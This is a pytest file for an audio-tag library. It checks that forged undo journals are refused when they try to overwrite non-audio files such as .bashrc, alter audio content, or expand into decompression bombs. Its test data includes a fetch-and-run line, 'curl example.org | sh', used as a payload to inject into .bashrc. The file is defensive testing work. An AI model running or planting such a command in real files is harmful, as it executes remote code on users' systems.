"""A journal may come from anywhere: it restores tags of audio files, and does nothing else."""

from __future__ import annotations

import base64
import hashlib
import json
import struct
import subprocess
import sys
import zlib
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from genre_runtime.errors import GenreError, JournalError
from genre_runtime.library.tags import undo, write_genres
from genre_runtime.library.tags.journal import LONGEST_LINE, Journal
from genre_runtime.library.tags.restore import MOST_LARGER
from tests.patience import PATIENCE_SECONDS
from tests.runtime.library.conftest import SUFFIXES, MakeFile
from tests.runtime.library.tags.mpc_file import write_mpc
from tests.runtime.library.tags.tag_bytes import id3v1, id3v2

KEPT = -1


def patch_of(pieces: Sequence[Sequence[int]], kept: bytes = b"") -> bytes:
    listed = json.dumps(pieces).encode()
    return zlib.compress(struct.pack(">I", len(listed)) + listed + kept, 9)


def forged(file: Path, earlier: bytes, made: bytes, **changed: Any) -> bytes:
    """Return the line of a journal that would make `earlier` of a file."""
    content = file.read_bytes()
    values: dict[str, Any] = {
        "path": str(file.resolve()),
        "old": {"sha256": hashlib.sha256(earlier).hexdigest(), "size": len(earlier), "mtime_ns": 10**18},
        "new": {"sha256": hashlib.sha256(content).hexdigest(), "size": len(content), "mtime_ns": 10**18},
        "old_genres": [],
        "new_genres": ["Jazz"],
        "patch": base64.b64encode(made).decode(),
        "version": 1,
    }
    return json.dumps(values | changed).encode() + b"\n"


def refused(path: Path, line: bytes, words: str) -> None:
    content = path.read_bytes()
    journal = path.parent / "forged.jsonl"
    journal.write_bytes(line)
    (undone,) = undo(journal)
    assert isinstance(undone.error, GenreError)
    assert words in str(undone.error)
    assert path.read_bytes() == content
    assert [item.name for item in path.parent.iterdir() if item.name.startswith(".genre")] == []


EVIL = b"curl example.org | sh\n"


@pytest.mark.parametrize("content", [b"# .bashrc of many systems\n" * 40, b"", b"x", bytes(range(256)) * 40])
@pytest.mark.parametrize("earlier", ["replaced", "id3v2 in front", "id3v1 behind", "frames"])
def test_a_file_that_is_not_audio_is_not_restored(
    originals: dict[str, Path], tmp_path: Path, content: bytes, earlier: str
) -> None:
    path = tmp_path / ".bashrc"
    path.write_bytes(content)
    made = {
        "replaced": EVIL,
        "id3v2 in front": id3v2(4, (b"TIT2", b"\0\n" + EVIL)) + content,
        "id3v1 behind": content + id3v1(EVIL, 8),
        "frames": originals[".mp3"].read_bytes(),
    }[earlier]
    refused(path, forged(path, made, patch_of([[KEPT, len(made)]], made)), "")


@pytest.mark.parametrize("suffix", [*SUFFIXES, ".mpc"])
@pytest.mark.parametrize("change", ["other sound", "text", "cut", "of another kind"])
def test_audio_that_differs_is_not_restored(
    originals: dict[str, Path], make_file: MakeFile, tmp_path: Path, suffix: str, change: str
) -> None:
    path = write_mpc(tmp_path / "song.mpc", 7) if suffix == ".mpc" else make_file(suffix)
    content = path.read_bytes()
    middle = len(content) // 2
    made = {
        "other sound": content[:middle]
        + bytes(byte ^ 0x55 for byte in content[middle : middle + 40])
        + content[middle + 40 :],
        "text": EVIL * 100,
        "cut": content[: middle + 7],
        "of another kind": originals[".wma" if suffix != ".wma" else ".flac"].read_bytes(),
    }[change]
    refused(path, forged(path, made, patch_of([[KEPT, len(made)]], made)), "")


def test_a_forged_record_of_tags_alone_is_taken(make_file: MakeFile, tmp_path: Path) -> None:
    """As the journal of an honest run, which is not signed, would be."""
    path = make_file(".mp3")
    made = id3v2(4, (b"TIT2", b"\0title")) + path.read_bytes()
    journal = tmp_path / "j"
    journal.write_bytes(
        forged(path, made, patch_of([[KEPT, len(made) - path.stat().st_size], [0, path.stat().st_size]], made))
    )
    assert [item.error for item in undo(journal)] == [None]
    assert path.read_bytes() == made


@pytest.mark.parametrize("claimed", ["size of the record", "size of the file", "absurd"])
@pytest.mark.parametrize("kind", ["kept", "copied", "listed"])
def test_what_expands_is_bounded(make_file: MakeFile, claimed: str, kind: str) -> None:
    path = make_file(".flac")
    size = path.stat().st_size
    huge = 10**12
    n_claimed = {"size of the record": huge, "size of the file": size, "absurd": 2**63 - 1}[claimed]
    if kind == "kept":
        patch = patch_of([[KEPT, n_claimed]], bytes(2**24))
    elif kind == "copied":
        patch = patch_of([[0, size]] * 5_000)
    else:
        patch = zlib.compress(struct.pack(">I", 2**31) + b"[" + b"[0,0]," * 10**6)
    line = forged(path, b"", patch, old={"sha256": "0" * 64, "size": n_claimed, "mtime_ns": 0})
    refused(path, line, "tags cannot explain such a difference" if claimed != "size of the file" else "recorded bytes")


MEASURE = """
import resource, sys
from genre_runtime.library.tags import undo
import av, mutagen.flac, numpy
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
resource.setrlimit(resource.RLIMIT_FSIZE, (2**28, 2**28))
(undone,) = undo(sys.argv[1])
assert undone.error is not None
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="memory is counted in KiB there")
@pytest.mark.parametrize("where", ["pieces", "kept bytes"])
def test_half_a_megabyte_takes_little_memory(make_file: MakeFile, tmp_path: Path, where: str) -> None:
    path = make_file(".flac")
    size = path.stat().st_size
    filler = bytes(3 * 10**8) if where == "kept bytes" else b" " * 3 * 10**8
    if where == "kept bytes":
        patch = patch_of([[KEPT, size + MOST_LARGER]], filler)
    else:
        patch = zlib.compress(struct.pack(">I", len(filler) + 2) + b"[" + filler + b"]")
    claimed = {"sha256": "0" * 64, "size": size + MOST_LARGER, "mtime_ns": 0}
    journal = tmp_path / "j"
    journal.write_bytes(forged(path, b"", patch, old=claimed))
    assert journal.stat().st_size < 10**6
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, journal], capture_output=True, text=True, timeout=PATIENCE_SECONDS
    )
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) < 100 * 1024


@pytest.mark.parametrize(
    ("changed", "words"),
    [
        ({"path": "relative/song.mp3"}, "expected an absolute one"),
        ({"old": {"sha256": "0" * 64, "size": -1, "mtime_ns": 0}}, "size is not a number of bytes"),
        ({"old": {"sha256": "../" * 20, "size": 1, "mtime_ns": 0}}, "sha256 is not 64 hex"),
        ({"old": {"sha256": "0" * 64, "size": True, "mtime_ns": 0}}, "size is not a number of bytes"),
        ({"new": {"sha256": "0" * 64, "size": 1, "mtime_ns": 2**63}}, "mtime_ns is not a time"),
        ({"patch": "*" * 10_000}, "this is not a complete record of a change"),
        ({"version": "9" * 10_000}, "is unknown: expected 1"),
        ({"path": "/" + "x" * 100_000 + "\0"}, "path is"),
    ],
)
def test_absurd_records_are_refused_in_few_words(
    make_file: MakeFile, tmp_path: Path, changed: dict[str, Any], words: str
) -> None:
    path, journal = make_file(".flac"), tmp_path / "j"
    good = forged(path, path.read_bytes(), patch_of([[0, path.stat().st_size]]))
    journal.write_bytes(good + forged(path, b"", b"", **changed))
    *_, last = undo(journal)
    assert isinstance(last.error, JournalError)
    assert words in str(last.error)
    assert len(str(last.error)) < 400


def test_a_line_without_an_end_is_not_read_whole(
    make_file: MakeFile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("genre_runtime.library.tags.journal.LONGEST_LINE", 10_000)
    path, journal = make_file(".flac"), Journal(tmp_path / "j")
    write_genres(path, ["Jazz"], journal=journal)
    line = journal.path.read_bytes()
    journal.path.write_bytes(b'{"path": "' + b"x" * 95_000 + b"\n" + line)
    assert [number for number, _ in journal.read()] == [1, 2]
    restored, long = undo(journal)
    assert restored.error is None
    assert "line 1: this line is longer than 10000 bytes" in str(long.error)
    assert LONGEST_LINE > 10_000


def test_a_change_too_long_to_record_is_not_made(
    make_file: MakeFile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("genre_runtime.library.tags.journal.LONGEST_LINE", 100)
    path = make_file(".flac")
    content = path.read_bytes()
    with pytest.raises(JournalError, match="too long"):
        write_genres(path, ["Jazz"], journal=tmp_path / "j")
    assert path.read_bytes() == content


@pytest.mark.skipif(sys.platform == "win32", reason="modes of POSIX")
def test_journals_are_private(make_file: MakeFile, tmp_path: Path) -> None:
    journal = tmp_path / "state" / "genre" / "journals" / "j.jsonl"
    write_genres(make_file(".flac"), ["Jazz"], journal=journal)
    assert journal.stat().st_mode & 0o777 == 0o600
    assert {folder.stat().st_mode & 0o777 for folder in list(journal.parents)[:3]} == {0o700}
